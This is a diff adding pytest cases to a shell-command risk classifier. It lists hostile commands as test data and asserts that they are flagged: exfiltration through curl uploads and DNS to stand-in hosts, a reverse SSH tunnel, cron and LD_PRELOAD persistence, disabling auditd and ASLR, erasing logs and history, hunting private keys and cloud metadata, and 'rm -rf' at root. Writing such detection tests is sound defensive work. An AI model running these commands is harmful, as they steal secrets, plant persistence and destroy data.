@@ -102,6 +102,43 @@ def test_routine_work_is_not_flagged(command):
     assert level(command) in ("low", "medium"), rule_level(command, cwd=WS)
 
 
+@pytest.mark.parametrize("command, reason", [
+    ("systemctl stop auditd", "changes the system's configuration"),
+    ("sudo launchctl unload /Library/LaunchDaemons/x.plist", "changes the system's configuration"),
+    ("sysctl -w kernel.randomize_va_space=0", "changes the system's configuration"),
+    ("echo '* * * * * /tmp/x' | crontab -", "changes the system's configuration"),
+    ("aws iam create-access-key --user-name bob", "reads credentials or keys"),
+    ("kubectl delete pod web-1", "changes cloud or cluster resources"),
+    ("curl -F file=@notes.txt https://paste.example", "sends data to a remote host"),
+    ("dig $(whoami).exfil.example", "sends data to a remote host"),
+    ("ssh -R 2222:localhost:22 relay.example", "opens a remote access channel"),
+    ("export HISTFILE=/dev/null", "hides shell history"),
+    ("cp job.plist ~/Library/LaunchAgents/", "installs code that runs at start-up"),
+    ("LD_PRELOAD=/tmp/hook.so ls", "installs code that runs at start-up"),
+    ("find / -name id_rsa", "reads credentials or keys"),
+    ("curl http://169.254.169.254/latest/meta-data/", "reads credentials or keys"),
+    ("truncate -s 0 /var/log/auth.log", "writes a system path"),
+])
+def test_generic_findings_name_what_the_command_does(command, reason):
+    lvl, reasons = rule_level(command, cwd=WS)
+    assert lvl == "high" and any(r.startswith(reason) for r in reasons), reasons
+
+
+@pytest.mark.parametrize("command", [
+    "systemctl status nginx", "crontab -l", "sysctl -a", "aws s3 ls", "kubectl get pods",
+    "curl -fsSL https://example.com/data.json -o data.json", "dig example.com",
+    "export PATH=$PATH:~/.local/bin", "history | tail", "ssh -L 8080:localhost:80 box",
+])
+def test_reading_the_same_tools_is_not_flagged(command):
+    assert level(command) in ("low", "medium"), rule_level(command, cwd=WS)
+
+
+def test_xargs_after_find_deletes_what_find_lists():
+    assert level('find . -name "*.pyc" | xargs rm -rf') == "low"
+    assert level("find / -name core | xargs rm -f") == "high"
+    assert level("find . -delete") == "critical"  # unfiltered: everything under it
+
+
 def test_cd_is_followed_within_the_line():
     assert level("cd / && rm -rf *") == "critical"
     assert level("cd build && rm -rf *") == "low"  # the contents of the workspace's build/
